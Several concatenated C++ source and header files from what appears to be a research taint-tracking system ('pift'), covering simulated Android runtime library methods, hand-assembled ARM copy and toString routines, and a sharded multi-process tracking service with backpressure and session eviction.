    /** Register every library method/class into @p dex. */
    void install(dalvik::Dex &dex);

    /// @name Native methods
    /// @{
    dalvik::MethodId string_concat = dalvik::no_method;   //!< (a,b)->s
    dalvik::MethodId string_substring = dalvik::no_method;//!< (s,b,e)->s
    dalvik::MethodId string_value_of_char = dalvik::no_method;
    dalvik::MethodId string_to_char_array = dalvik::no_method;
    dalvik::MethodId string_from_char_array = dalvik::no_method;
    dalvik::MethodId sb_init = dalvik::no_method;     //!< ()->sb
    dalvik::MethodId sb_append = dalvik::no_method;   //!< (sb,s)->sb
    dalvik::MethodId sb_to_string = dalvik::no_method;//!< (sb)->s
    dalvik::MethodId int_to_string = dalvik::no_method;
    dalvik::MethodId int_parse = dalvik::no_method;   //!< (s)->int
    dalvik::MethodId float_to_string = dalvik::no_method;
    dalvik::MethodId array_copy = dalvik::no_method;  //!< arraycopy
    /// @}

    /// @name Bytecode methods (system-library census corpus)
    /// @{
    dalvik::MethodId string_char_at = dalvik::no_method;
    dalvik::MethodId string_length = dalvik::no_method;
    dalvik::MethodId string_is_empty = dalvik::no_method;
    dalvik::MethodId string_equals = dalvik::no_method;
    dalvik::MethodId string_index_of = dalvik::no_method;
    dalvik::MethodId string_hash_code = dalvik::no_method;
    dalvik::MethodId sb_append_char = dalvik::no_method;
    dalvik::MethodId math_abs = dalvik::no_method;
    dalvik::MethodId math_max = dalvik::no_method;
    dalvik::MethodId math_min = dalvik::no_method;
    dalvik::MethodId math_clamp = dalvik::no_method;
    dalvik::MethodId int_bit_count = dalvik::no_method;
    /// @}

    /// @name Classes
    /// @{
    dalvik::ClassId string_builder_cls = 0; //!< fields: buf, count
    dalvik::ClassId exception_cls = 0;      //!< field: payload ref
    /// @}

    /** StringBuilder field indices (byte offsets are 4 * index). */
    static constexpr uint16_t sb_field_buf = 0;
    static constexpr uint16_t sb_field_count = 4;
    /** Exception payload field byte offset. */
    static constexpr uint16_t exc_field_payload = 0;

    /// @name Host-side convenience used by natives and the framework
    /// @{

    /** Make a StringBuilder with @p capacity chars of buffer. */
    Ref makeStringBuilder(dalvik::Vm &vm, uint32_t capacity = 64);

    /**
     * Append @p count chars from @p src_chars to @p sb with the traced
     * copy loop, growing the buffer as needed.
     */
    void appendChars(dalvik::Vm &vm, Ref sb, Addr src_chars,
                     uint32_t count);

    /// @}

  private:
    Addr digitBuffer(dalvik::Vm &vm);

    Addr digits = 0; //!< recycled scratch for toString conversions
};

} // namespace pift::runtime

#endif // PIFT_RUNTIME_LIBRARY_HH
