#include "runtime/routines.hh"

#include "mem/layout.hh"
#include "support/logging.hh"

namespace pift::runtime
{

namespace
{

using isa::Assembler;
using isa::Cond;
using isa::WriteBack;
using isa::imm;
using isa::memIdx;
using isa::memOff;
using isa::reg;
using isa::regLsr;

constexpr RegIndex r0 = 0, r1 = 1, r2 = 2, r3 = 3, r4 = 4, r5 = 5,
    r6 = 6, r10 = 10;
constexpr RegIndex lr = 14;

/** Stack area used by the ABI helpers' register spills. */
constexpr Addr abi_stack = mem::scratch_base + 0x1000;

} // anonymous namespace

std::vector<const isa::Program *>
Routines::all() const
{
    return {&string_copy, &word_copy, &abi_spacer, &char_from_word,
            &char_from_word_short, &word_derive, &word_store};
}

Routines
emitRoutines()
{
    Routines routines;
    Addr at = mem::native_base;

    // The Figure 1 string-copy loop: each character is loaded into a
    // register and then stored to its destination (memcpy-style
    // post-increment form; load-store distance 1).
    {
        Assembler a(at);
        a.label("loop");
        a.ldrh(r6, memOff(r1, 2, WriteBack::Post)); // r6 <- src char
        a.strh(r6, memOff(r0, 2, WriteBack::Post)); // r6 -> dst char
        a.subs(r5, r5, imm(1));
        a.b("loop", Cond::Ne);
        a.bx(lr);
        routines.string_copy_addr = at;
        routines.string_copy = a.finish();
        at = routines.string_copy.end() + 32;
    }

    // The interpreter's argument-copy loop (invoke frame setup):
    // caller vregs -> callee vregs, distance 1.
    {
        Assembler a(at);
        a.label("loop");
        a.ldr(r1, memOff(r0, 4, WriteBack::Post));
        a.str(r1, memOff(r2, 4, WriteBack::Post));
        a.subs(r3, r3, imm(1));
        a.b("loop", Cond::Ne);
        a.bx(lr);
        routines.word_copy_addr = at;
        routines.word_copy = a.finish();
        at = routines.word_copy.end() + 32;
    }

    // The __aeabi_* body: spill callee-saved registers, grind, reload.
    // Preserves r0/r1 so the bridge's computed result survives.
    {
        Assembler a(at);
        a.movi(r10, static_cast<int32_t>(abi_stack));
        a.stm(r10, r4, 4);          // push {r4-r7}
        a.eor(r2, r3, reg(r2));
        a.add(r2, r2, imm(1));
        a.sub(r10, r10, imm(16));
        a.ldm(r10, r4, 4);          // pop {r4-r7}
        a.bx(lr);
        routines.abi_spacer_addr = at;
        routines.abi_spacer = a.finish();
        at = routines.abi_spacer.end() + 32;
    }

    // Float/Double.toString's data-carrying step: load the float
    // word, mantissa/exponent grinding, store the first character.
    // Exactly 10 instructions separate the load from the store, which
    // is why the Figure 11 GPS leak needs NI >= 10.
    {
        Assembler a(at);
        a.ldr(r3, memOff(r0, 0));          // float bits (tainted)
        a.mov(r2, regLsr(r3, 23));         // exponent
        a.and_(r2, r2, imm(255));
        a.sub(r2, r2, imm(127));
        a.lsl(r4, r3, imm(9));             // mantissa
        a.mov(r4, regLsr(r4, 9));
        a.orr(r4, r4, imm(1 << 23));
        a.add(r2, r2, reg(r4));
        a.eor(r2, r2, reg(r3));
        a.uxth(r3, r3);                    // derived character
        a.strh(r3, memOff(r1, 0));         // first digit store
        a.bx(lr);
        routines.char_from_word_addr = at;
        routines.char_from_word = a.finish();
        at = routines.char_from_word.end() + 32;
    }

    // Integer.toString's data-carrying step: short distance (3).
    {
        Assembler a(at);
        a.ldr(r3, memOff(r0, 0));
        a.mov(r2, regLsr(r3, 4));
        a.uxth(r3, r3);
        a.strh(r3, memOff(r1, 0));
        a.bx(lr);
        routines.char_from_word_short_addr = at;
        routines.char_from_word_short = a.finish();
        at = routines.char_from_word_short.end() + 32;
    }

    // Word-to-word derivation (Integer.parseInt, primitive getters):
    // load a word, grind, store a derived word; distance 3.
    {
        Assembler a(at);
        a.ldr(r3, memOff(r0, 0));
        a.mov(r2, regLsr(r3, 4));
        a.add(r2, r2, reg(r3));
        a.str(r3, memOff(r1, 0));
        a.bx(lr);
        routines.word_derive_addr = at;
        routines.word_derive = a.finish();
        at = routines.word_derive.end() + 32;
    }

    // Plain traced word store: how natives write their return value
    // into the thread's retval slot (a real store, so stale taint in
    // the slot is untainted like any other overwrite).
    {
        Assembler a(at);
        a.str(r0, memOff(r1, 0));
        a.bx(lr);
        routines.word_store_addr = at;
        routines.word_store = a.finish();
        at = routines.word_store.end() + 32;
    }

    pift_assert(at < mem::native_limit, "native region overflow");
    return routines;
}

} // namespace pift::runtime
