/**
 * @file
 * Native (non-interpreted) runtime routines.
 *
 * These are the pieces of the Android runtime that execute as real
 * ARM code rather than bytecode, and whose load/store shapes matter
 * to PIFT:
 *
 *  - stringCopy: the Figure 1 character-copy loop that implements
 *    String/StringBuilder concatenation (ldrh/strh two bytes at a
 *    time, load-store distance 2);
 *  - wordCopy: the interpreter's argument-copy loop used on method
 *    invocation (distance 1);
 *  - abiSpacer: the body shared by the __aeabi_* integer/float
 *    helpers — a callee-saved register spill (stm), ALU work, and a
 *    reload (ldm); it is what makes ABI-based bytecodes' load-store
 *    distances long and "unknown" (Table 1);
 *  - charFromWord / charFromWordShort: the data-carrying step of
 *    Float.toString (distance 10 — the reason the GPS leak needs
 *    NI >= 10 in Figure 11) and Integer.toString (distance 3).
 *
 * Calling convention: arguments in registers as documented per
 * routine; routines end with `bx lr`. The runtime bridge saves and
 * restores the interpreter's register state around calls.
 */

#ifndef PIFT_RUNTIME_ROUTINES_HH
#define PIFT_RUNTIME_ROUTINES_HH

#include <vector>

#include "isa/assembler.hh"
#include "support/types.hh"

namespace pift::runtime
{

/** The emitted native routines, positioned at their final addresses. */
struct Routines
{
    /** r0 = dst chars, r1 = src chars, r5 = char count (> 0). */
    isa::Program string_copy;
    /** r0 = src words, r2 = dst words, r3 = word count (> 0). */
    isa::Program word_copy;
    /** ABI helper body; preserves r0/r1 (the result registers). */
    isa::Program abi_spacer;
    /** r0 = &word, r1 = &dst char; load-store distance 10. */
    isa::Program char_from_word;
    /** r0 = &word, r1 = &dst char; load-store distance 3. */
    isa::Program char_from_word_short;
    /** r0 = &src word, r1 = &dst word; load-store distance 3. */
    isa::Program word_derive;
    /** r0 = value, r1 = &dst word: plain traced word store. */
    isa::Program word_store;

    Addr string_copy_addr = 0;
    Addr word_copy_addr = 0;
    Addr abi_spacer_addr = 0;
    Addr char_from_word_addr = 0;
    Addr char_from_word_short_addr = 0;
    Addr word_derive_addr = 0;
    Addr word_store_addr = 0;

    /** All programs, for loading into a Cpu. */
    std::vector<const isa::Program *> all() const;
};

/** Assemble every routine at its home in the native code region. */
Routines emitRoutines();

} // namespace pift::runtime

#endif // PIFT_RUNTIME_ROUTINES_HH
