#include "service/service.hh"

#include <algorithm>
#include <chrono>
#include <deque>
#include <map>
#include <set>
#include <string>

#include "exec/thread_pool.hh"
#include "support/logging.hh"
#include "telemetry/registry.hh"

namespace pift::service
{

namespace
{

/** Service-wide instruments, resolved once (DESIGN.md §9). */
struct ServiceTel
{
    telemetry::Counter &submitted =
        telemetry::counter("service.events.submitted");
    telemetry::Counter &accepted =
        telemetry::counter("service.events.accepted");
    telemetry::Counter &overflowed =
        telemetry::counter("service.events.overflowed");
    telemetry::Counter &drained =
        telemetry::counter("service.events.drained");
    telemetry::Counter &loss_marks =
        telemetry::counter("service.loss_marks");
    telemetry::Counter &attached =
        telemetry::counter("service.sessions.attached");
    telemetry::Counter &detached =
        telemetry::counter("service.sessions.detached");
    telemetry::Counter &expired =
        telemetry::counter("service.sessions.expired");
    telemetry::Counter &evicted =
        telemetry::counter("service.sessions.evicted");
    telemetry::Gauge &active =
        telemetry::gauge("service.sessions.active");
    telemetry::Gauge &bytes =
        telemetry::gauge("service.storage.bytes");
    telemetry::Histogram &sink_latency = telemetry::histogram(
        "service.sink.latency_us",
        telemetry::exponentialBounds(1, 2.0, 16));
};

ServiceTel &
tel()
{
    static ServiceTel t;
    return t;
}

} // anonymous namespace

/**
 * One striped-lock ingestion shard: a bounded event queue plus the
 * sessions of every pid that hashes here (pid % shards). The mutex
 * guards everything in the struct; per-shard load metrics live here
 * so a hot shard is visible in a telemetry snapshot.
 */
struct TrackingService::Shard
{
    struct Queued
    {
        ServiceEvent ev;
        uint64_t tick = 0; //!< logical ingest clock at acceptance
    };

    explicit Shard(unsigned idx)
        : g_depth(telemetry::gauge("service.shard." +
                                   std::to_string(idx) +
                                   ".queue_depth")),
          g_sessions(telemetry::gauge("service.shard." +
                                      std::to_string(idx) +
                                      ".sessions")),
          c_drained(telemetry::counter("service.shard." +
                                       std::to_string(idx) +
                                       ".drained")),
          c_overflow(telemetry::counter("service.shard." +
                                        std::to_string(idx) +
                                        ".overflows"))
    {
    }

    mutable std::mutex m;
    std::condition_variable cv; //!< threaded mode: work or stop

    std::deque<Queued> queue;
    std::map<ProcId, std::unique_ptr<Session>> sessions; //!< asc pid
    std::set<ProcId> tombstones; //!< shed pids: re-admit = state loss

    /**
     * Logical tick of each pid's latest overflow loss. An overflow
     * postdates everything queued at that moment, so a queued-earlier
     * ClearAll must not erase the mark when it drains (the dropped
     * event is not covered by the clear) — drainLocked consults this
     * map to restore the mark, and drops the entry once a Clear from
     * after the loss makes it moot. Survives session eviction on
     * purpose: the ordering outlives any one session incarnation.
     */
    std::map<ProcId, uint64_t> loss_ticks;

    // Tallies, guarded by m; stats() sums them across shards.
    uint64_t submitted = 0;
    uint64_t accepted = 0;
    uint64_t overflows = 0;
    uint64_t drained = 0;
    uint64_t loss_marks = 0;
    uint64_t attached = 0;
    uint64_t detached = 0;
    uint64_t expired = 0;
    uint64_t evicted = 0;

    telemetry::Gauge &g_depth;
    telemetry::Gauge &g_sessions;
    telemetry::Counter &c_drained;
    telemetry::Counter &c_overflow;
};

TrackingService::TrackingService(const ServiceConfig &cfg) : cfg_(cfg)
{
    if (cfg_.shards < 1)
        cfg_.shards = 1;
    if (cfg_.queue_capacity < 1)
        cfg_.queue_capacity = 1;
    shards_.reserve(cfg_.shards);
    for (unsigned i = 0; i < cfg_.shards; ++i)
        shards_.push_back(std::make_unique<Shard>(i));
}

TrackingService::~TrackingService() = default;

TrackingService::Shard &
TrackingService::shardFor(ProcId pid)
{
    return *shards_[pid % shards_.size()];
}

const TrackingService::Shard &
TrackingService::shardFor(ProcId pid) const
{
    return *shards_[pid % shards_.size()];
}

Session &
TrackingService::sessionLocked(Shard &sh, ProcId pid)
{
    auto it = sh.sessions.find(pid);
    if (it != sh.sessions.end())
        return *it->second;
    // Re-admission of a shed pid: its taint history is gone, so the
    // fresh session declares state loss up front (MaybeTainted at
    // sinks) — eviction is never a silent false negative.
    bool lost = sh.tombstones.erase(pid) > 0;
    auto ses = std::make_unique<Session>(pid, cfg_.session, lost);
    Session &ref = *ses;
    sh.sessions.emplace(pid, std::move(ses));
    ++sh.attached;
    tel().attached.inc();
    sh.g_sessions.set(sh.sessions.size());
    return ref;
}

bool
TrackingService::attach(ProcId pid)
{
    Shard &sh = shardFor(pid);
    std::lock_guard<std::mutex> lock(sh.m);
    if (sh.sessions.count(pid))
        return false;
    sessionLocked(sh, pid);
    return true;
}

bool
TrackingService::detach(ProcId pid)
{
    Shard &sh = shardFor(pid);
    std::lock_guard<std::mutex> lock(sh.m);
    // Apply what is already queued first so a final sink check's
    // result is not lost with the session.
    drainLocked(sh);
    auto it = sh.sessions.find(pid);
    if (it == sh.sessions.end())
        return false;
    sh.sessions.erase(it);
    // Process exit: any pending loss ordering died with the
    // incarnation (the queue was just drained above).
    sh.loss_ticks.erase(pid);
    ++sh.detached;
    tel().detached.inc();
    sh.g_sessions.set(sh.sessions.size());
    return true;
}

bool
TrackingService::submit(const ServiceEvent &ev)
{
    return submitMany(&ev, 1) == 1;
}

size_t
TrackingService::submitMany(const ServiceEvent *evs, size_t n)
{
    size_t done = 0;
    size_t accepted_total = 0;
    const bool threaded = threaded_.load(std::memory_order_relaxed);
    while (done < n) {
        const size_t si = evs[done].pid % shards_.size();
        Shard &sh = *shards_[si];
        // Extend the run while consecutive events hash to this shard
        // so a per-app burst pays for one lock acquisition.
        size_t run_end = done + 1;
        while (run_end < n && &shardFor(evs[run_end].pid) == &sh)
            ++run_end;
        bool wake = false;
        {
            std::lock_guard<std::mutex> lock(sh.m);
            for (size_t i = done; i < run_end; ++i) {
                ++sh.submitted;
                if (sh.queue.size() >= cfg_.queue_capacity) {
                    // Backpressure: refuse the event, and degrade the
                    // pid *now* — the loss mark must precede any
                    // event accepted later, so a subsequent sink
                    // check can never answer a silent Clean. The
                    // loss draws its own tick: it sits *after* every
                    // event queued right now, and drainLocked uses
                    // that ordering so a queued-earlier ClearAll
                    // cannot silently erase the mark.
                    ++sh.overflows;
                    sh.c_overflow.inc();
                    uint64_t tick =
                        clock_.fetch_add(1, std::memory_order_relaxed) +
                        1;
                    uint64_t &lt = sh.loss_ticks[evs[i].pid];
                    if (tick > lt)
                        lt = tick;
                    Session &ses = sessionLocked(sh, evs[i].pid);
                    ses.noteStreamLoss();
                    ses.touch(tick);
                    ++sh.loss_marks;
                    tel().loss_marks.inc();
                    continue;
                }
                uint64_t tick =
                    clock_.fetch_add(1, std::memory_order_relaxed) + 1;
                sh.queue.push_back(Shard::Queued{evs[i], tick});
                ++sh.accepted;
                ++accepted_total;
                wake = true;
            }
            sh.g_depth.set(sh.queue.size());
        }
        if (threaded && wake) {
            // Wake the worker that owns this shard. With a pool at
            // least as wide as the shard count that is the shard's
            // own condvar; a narrower pool multiplexes shards over
            // workers (stride nworkers_), each parked on the condvar
            // of its primary shard. A notify that races the worker's
            // block on a *secondary* shard's behalf may be lost —
            // the multiplexed wait is timed, bounding the latency.
            size_t nw = nworkers_.load(std::memory_order_acquire);
            Shard &owner =
                (nw && nw < shards_.size()) ? *shards_[si % nw] : sh;
            owner.cv.notify_one();
        }
        done = run_end;
    }
    tel().submitted.inc(n);
    tel().accepted.inc(accepted_total);
    tel().overflowed.inc(n - accepted_total);
    return accepted_total;
}

void
TrackingService::drainLocked(Shard &sh)
{
    size_t batch = sh.queue.size();
    while (!sh.queue.empty()) {
        Shard::Queued q = sh.queue.front();
        sh.queue.pop_front();
        Session &ses = sessionLocked(sh, q.ev.pid);
        ses.apply(q.ev);
        if (q.ev.kind == EventKind::Clear) {
            // The ClearAll just wiped the tracker's loss marks. An
            // overflow from *after* this Clear was queued dropped an
            // event the clear does not cover — restore the mark so
            // the pid stays MaybeTainted. A loss from before the
            // clear is moot (the cleared state subsumed it): drop it.
            auto it = sh.loss_ticks.find(q.ev.pid);
            if (it != sh.loss_ticks.end()) {
                if (it->second > q.tick) {
                    ses.noteStreamLoss();
                    ++sh.loss_marks;
                    tel().loss_marks.inc();
                } else {
                    sh.loss_ticks.erase(it);
                }
            }
        }
        ses.touch(q.tick);
        ++sh.drained;
    }
    if (batch) {
        sh.c_drained.inc(batch);
        tel().drained.inc(batch);
        sh.g_depth.set(0);
    }
}

void
TrackingService::pump(unsigned jobs)
{
    exec::parallelFor(
        shards_.size(),
        [&](size_t i) {
            Shard &sh = *shards_[i];
            std::lock_guard<std::mutex> lock(sh.m);
            drainLocked(sh);
        },
        jobs);
}

void
TrackingService::maintain()
{
    // Idle expiry first: a session beyond the idle horizon leaves
    // cleanly when it holds no taint and is not degraded; otherwise
    // its removal is a state loss and the pid is tombstoned.
    const uint64_t now = clock();
    if (cfg_.expire_idle_ticks) {
        for (auto &shp : shards_) {
            Shard &sh = *shp;
            std::lock_guard<std::mutex> lock(sh.m);
            for (auto it = sh.sessions.begin();
                 it != sh.sessions.end();) {
                Session &ses = *it->second;
                // A session touched by a concurrent drain/sink check
                // after the `now` snapshot has lastActive > now; it
                // is maximally active, not idle — without the first
                // test the subtraction would wrap and expire it.
                if (ses.lastActive() >= now ||
                    now - ses.lastActive() <= cfg_.expire_idle_ticks) {
                    ++it;
                    continue;
                }
                if (ses.storageBytes() != 0 || ses.degraded())
                    sh.tombstones.insert(it->first);
                it = sh.sessions.erase(it);
                ++sh.expired;
                tel().expired.inc();
            }
            sh.g_sessions.set(sh.sessions.size());
        }
    }

    // Byte-ceiling eviction: shed least-recently-active sessions
    // (total order on (last_active, pid) — the logical clock, so the
    // choice is deterministic) until aggregate storage fits again.
    struct Victim
    {
        uint64_t last_active;
        ProcId pid;
        unsigned shard;
        uint64_t bytes;
    };
    uint64_t total = 0;
    std::vector<Victim> victims;
    for (unsigned si = 0; si < shards_.size(); ++si) {
        Shard &sh = *shards_[si];
        std::lock_guard<std::mutex> lock(sh.m);
        for (const auto &kv : sh.sessions) {
            uint64_t b = kv.second->storageBytes();
            total += b;
            if (b)
                victims.push_back(
                    Victim{kv.second->lastActive(), kv.first, si, b});
        }
    }
    tel().bytes.set(total);
    if (!cfg_.memory_ceiling || total <= cfg_.memory_ceiling)
        return;
    std::sort(victims.begin(), victims.end(),
              [](const Victim &a, const Victim &b) {
                  return a.last_active != b.last_active
                             ? a.last_active < b.last_active
                             : a.pid < b.pid;
              });
    for (const Victim &v : victims) {
        if (total <= cfg_.memory_ceiling)
            break;
        Shard &sh = *shards_[v.shard];
        std::lock_guard<std::mutex> lock(sh.m);
        auto it = sh.sessions.find(v.pid);
        if (it == sh.sessions.end())
            continue;
        sh.tombstones.insert(v.pid);
        sh.sessions.erase(it);
        total -= v.bytes;
        ++sh.evicted;
        tel().evicted.inc();
        sh.g_sessions.set(sh.sessions.size());
    }
    tel().bytes.set(total);
}

core::SinkVerdict
TrackingService::checkSinkNow(ProcId pid, Addr start, Addr end,
                              uint32_t id)
{
    auto t0 = std::chrono::steady_clock::now();
    Shard &sh = shardFor(pid);
    core::SinkVerdict v;
    {
        std::lock_guard<std::mutex> lock(sh.m);
        // The check must observe every event accepted before it.
        drainLocked(sh);
        Session &ses = sessionLocked(sh, pid);
        v = ses.checkSink(taint::AddrRange(start, end), id);
        ses.touch(clock_.fetch_add(1, std::memory_order_relaxed) + 1);
    }
    auto dt = std::chrono::duration_cast<std::chrono::microseconds>(
                  std::chrono::steady_clock::now() - t0)
                  .count();
    tel().sink_latency.observe(static_cast<uint64_t>(dt));
    return v;
}

void
TrackingService::workerLoop(size_t first, size_t stride)
{
    Shard &primary = *shards_[first];
    // With a pool at least as wide as the shard count each worker
    // owns exactly one shard and parks event-driven on its condvar.
    // A narrower pool multiplexes: this worker also serves shards
    // first+stride, first+2*stride, ... — their submits notify the
    // primary's condvar, but that notify is not ordered with this
    // wait (different mutexes), so the wait is timed to bound the
    // latency of a lost secondary wakeup.
    const bool multiplexed = first + stride < shards_.size();
    for (;;) {
        bool stop_seen;
        {
            std::unique_lock<std::mutex> lock(primary.m);
            auto ready = [&] {
                return stopping_.load(std::memory_order_acquire) ||
                       !primary.queue.empty();
            };
            if (multiplexed)
                primary.cv.wait_for(
                    lock, std::chrono::milliseconds(2), ready);
            else
                primary.cv.wait(lock, ready);
            drainLocked(primary);
            stop_seen = stopping_.load(std::memory_order_acquire);
        }
        for (size_t i = first + stride; i < shards_.size();
             i += stride) {
            Shard &sh = *shards_[i];
            std::lock_guard<std::mutex> l(sh.m);
            drainLocked(sh);
        }
        // Every owned shard was drained after stopping_ was observed
        // (stop() orders its store before our predicate via the
        // shard mutex), so nothing submitted before stop() is left.
        if (stop_seen)
            return;
    }
}

void
TrackingService::runWorkers(exec::ThreadPool &pool)
{
    size_t nworkers =
        std::min<size_t>(pool.threads() ? pool.threads() : 1,
                         shards_.size());
    if (nworkers < shards_.size())
        pift_warn_limited(
            4,
            "service: pool narrower than shard count (%u < %zu); "
            "workers multiplex shards with timed waits",
            pool.threads(), shards_.size());
    stopping_.store(false, std::memory_order_release);
    nworkers_.store(nworkers, std::memory_order_release);
    threaded_.store(true, std::memory_order_release);
    pool.forEach(nworkers, [this, nworkers](size_t i) {
        workerLoop(i, nworkers);
    });
    threaded_.store(false, std::memory_order_release);
    nworkers_.store(0, std::memory_order_release);
    stopping_.store(false, std::memory_order_release);
}

void
TrackingService::stop()
{
    stopping_.store(true, std::memory_order_release);
    for (auto &shp : shards_) {
        // The empty critical section orders the stopping_ store with
        // a worker's predicate evaluation: without it a worker that
        // read stopping_ == false could block *after* the notify
        // fired and sleep forever (a lost wakeup TSan cannot see).
        { std::lock_guard<std::mutex> lock(shp->m); }
        shp->cv.notify_all();
    }
}

PidState
TrackingService::pidState(ProcId pid) const
{
    const Shard &sh = shardFor(pid);
    std::lock_guard<std::mutex> lock(sh.m);
    if (sh.sessions.count(pid))
        return PidState::Active;
    if (sh.tombstones.count(pid))
        return PidState::Shed;
    return PidState::Unknown;
}

std::vector<core::SinkResult>
TrackingService::sinkResultsFor(ProcId pid) const
{
    const Shard &sh = shardFor(pid);
    std::lock_guard<std::mutex> lock(sh.m);
    auto it = sh.sessions.find(pid);
    if (it == sh.sessions.end())
        return {};
    return it->second->sinkResults();
}

const provenance::Recorder *
TrackingService::recorderFor(ProcId pid) const
{
    const Shard &sh = shardFor(pid);
    std::lock_guard<std::mutex> lock(sh.m);
    auto it = sh.sessions.find(pid);
    return it == sh.sessions.end() ? nullptr
                                   : it->second->recorder();
}

ServiceStats
TrackingService::stats() const
{
    ServiceStats s;
    for (const auto &shp : shards_) {
        const Shard &sh = *shp;
        std::lock_guard<std::mutex> lock(sh.m);
        s.submitted += sh.submitted;
        s.accepted += sh.accepted;
        s.overflowed += sh.overflows;
        s.drained += sh.drained;
        s.loss_marks += sh.loss_marks;
        s.attached += sh.attached;
        s.detached += sh.detached;
        s.expired += sh.expired;
        s.evicted += sh.evicted;
        s.active_sessions += sh.sessions.size();
        for (const auto &kv : sh.sessions)
            s.storage_bytes += kv.second->storageBytes();
    }
    return s;
}

std::vector<SessionInfo>
TrackingService::sessions() const
{
    std::vector<SessionInfo> out;
    for (const auto &shp : shards_) {
        const Shard &sh = *shp;
        std::lock_guard<std::mutex> lock(sh.m);
        for (const auto &kv : sh.sessions) {
            SessionInfo info;
            info.pid = kv.first;
            info.storage_bytes = kv.second->storageBytes();
            info.last_active = kv.second->lastActive();
            info.events = kv.second->eventsApplied();
            info.degraded = kv.second->degraded();
            out.push_back(info);
        }
    }
    std::sort(out.begin(), out.end(),
              [](const SessionInfo &a, const SessionInfo &b) {
                  return a.pid < b.pid;
              });
    return out;
}

std::vector<ServiceEvent>
eventsFromTrace(const sim::Trace &trace, ProcId pid)
{
    std::vector<ServiceEvent> out;
    out.reserve(trace.records.size() + trace.controls.size());
    auto pushControl = [&](const sim::ControlEvent &c) {
        ServiceEvent ev;
        ev.pid = pid;
        ev.kind = c.kind == sim::ControlKind::RegisterSource
                      ? EventKind::Source
                      : c.kind == sim::ControlKind::CheckSink
                            ? EventKind::Sink
                            : EventKind::Clear;
        ev.start = c.start;
        ev.end = c.end;
        ev.id = c.id;
        out.push_back(ev);
    };
    size_t ci = 0;
    for (size_t ri = 0; ri < trace.records.size(); ++ri) {
        // Same merge rule as sim::replay — a control fires once seq
        // records precede it.
        while (ci < trace.controls.size() &&
               trace.controls[ci].seq <= ri)
            pushControl(trace.controls[ci++]);
        const sim::TraceRecord &r = trace.records[ri];
        if (r.mem_kind == sim::MemKind::None)
            continue;
        ServiceEvent ev;
        ev.pid = pid;
        ev.kind = r.mem_kind == sim::MemKind::Load ? EventKind::Load
                                                   : EventKind::Store;
        ev.start = r.mem_start;
        ev.end = r.mem_end;
        ev.local_seq = r.local_seq;
        out.push_back(ev);
    }
    while (ci < trace.controls.size())
        pushControl(trace.controls[ci++]);
    return out;
}

} // namespace pift::service
