/**
 * @file
 * Multi-tenant tracking daemon (DESIGN.md §14).
 *
 * The paper's deployment story is a kernel module watching every
 * process on a phone; TrackingService is that module's software
 * analogue scaled to thousands of concurrently tracked PIDs. Events
 * enter through N striped-lock ingestion shards (pid % shards), each
 * a *bounded* queue: hardware-assisted DIFT designs decouple tracking
 * from the traced CPU through exactly such a queue, and a bounded one
 * forces the overflow question that real decoupling hardware faces.
 *
 * The backpressure contract — never a silent drop: when a shard
 * queue is full, submit() refuses the event and marks the PID lost
 * through PiftTracker::noteStreamLoss, so every later negative sink
 * check for the PID answers MaybeTainted with a StreamLoss
 * provenance record behind it (FP=0, no silent FN — the repo-wide
 * invariant). The mark is ordered: an overflow postdates everything
 * queued at that moment, so a Clear accepted *earlier* cannot erase
 * it when it drains (the shard remembers the loss tick and restores
 * the mark), while a Clear accepted *after* the overflow legitimately
 * clears it — the dropped event could only have touched state the
 * clear wiped anyway.
 *
 * Admission/eviction: when aggregate TaintStorage bytes cross the
 * configured ceiling, maintain() sheds least-recently-active
 * sessions. An evicted PID is tombstoned; if it shows up again, the
 * fresh session declares state loss first (MaybeTainted at sinks),
 * because its taint history is gone.
 *
 * Lifecycle (per PID):
 *
 *     Unknown --attach/submit--> Active --detach--> Detached
 *        ^                        |  ^
 *        |                 evict/ |  | re-admission
 *        |                 expire v  | (state lost)
 *        +---- (tombstone) ---- Shed +
 *
 * Determinism: pump(jobs) drains shards in parallel, but each PID is
 * confined to one shard and sessions are independent, so verdicts
 * are byte-identical at any jobs width. Eviction order is a total
 * order on (last_active tick, pid) — the logical ingest clock, not
 * wall time.
 */

#ifndef PIFT_SERVICE_SERVICE_HH
#define PIFT_SERVICE_SERVICE_HH

#include <atomic>
#include <cstdint>
#include <memory>
#include <vector>

#include "provenance/explain.hh"
#include "service/session.hh"
#include "sim/trace.hh"

namespace pift::exec
{
class ThreadPool;
}

namespace pift::service
{

/** Service-wide configuration. */
struct ServiceConfig
{
    unsigned shards = 8;          //!< striped-lock ingestion shards
    size_t queue_capacity = 4096; //!< events buffered per shard

    /**
     * Aggregate TaintStorage byte ceiling across all sessions;
     * maintain() evicts least-recently-active sessions above it.
     * 0 = unlimited.
     */
    uint64_t memory_ceiling = 0;

    /**
     * Sessions idle for more than this many logical clock ticks are
     * expired by maintain(): removed cleanly when they hold no taint
     * and are not degraded, tombstoned (state-loss on re-admission)
     * otherwise. 0 = never expire.
     */
    uint64_t expire_idle_ticks = 0;

    SessionConfig session;
};

/** Where a PID is in the lifecycle state machine. */
enum class PidState : uint8_t
{
    Unknown = 0, //!< never seen (or cleanly expired/detached)
    Active,      //!< session live in a shard
    Shed         //!< tombstoned by eviction or lossy expiry
};

/** Aggregated service counters (telemetry mirrors per-shard detail). */
struct ServiceStats
{
    uint64_t submitted = 0;  //!< events offered to submit()
    uint64_t accepted = 0;   //!< events that entered a queue
    uint64_t overflowed = 0; //!< events refused by a full queue
    uint64_t drained = 0;    //!< events applied to sessions
    uint64_t loss_marks = 0; //!< noteStreamLoss calls delivered
    uint64_t attached = 0;   //!< sessions created (incl. re-admits)
    uint64_t detached = 0;   //!< sessions removed via detach()
    uint64_t expired = 0;    //!< sessions removed by idle expiry
    uint64_t evicted = 0;    //!< sessions shed by the byte ceiling
    size_t active_sessions = 0;
    uint64_t storage_bytes = 0; //!< aggregate across live sessions
};

/** Snapshot of one live session (deterministic: ascending pid). */
struct SessionInfo
{
    ProcId pid = 0;
    uint64_t storage_bytes = 0;
    uint64_t last_active = 0;
    uint64_t events = 0;
    bool degraded = false;
};

/**
 * The daemon. Two drive modes share all semantics:
 *
 *  - pump mode (deterministic, benches/tests): producers submit(),
 *    then pump(jobs) drains every shard via exec::parallelFor;
 *  - threaded mode (live daemon, TSan-stressed): runWorkers(pool)
 *    parks one worker per shard on its condvar; submit() wakes the
 *    shard's worker; stop() quiesces.
 */
class TrackingService
{
  public:
    explicit TrackingService(const ServiceConfig &cfg = {});
    ~TrackingService();

    TrackingService(const TrackingService &) = delete;
    TrackingService &operator=(const TrackingService &) = delete;

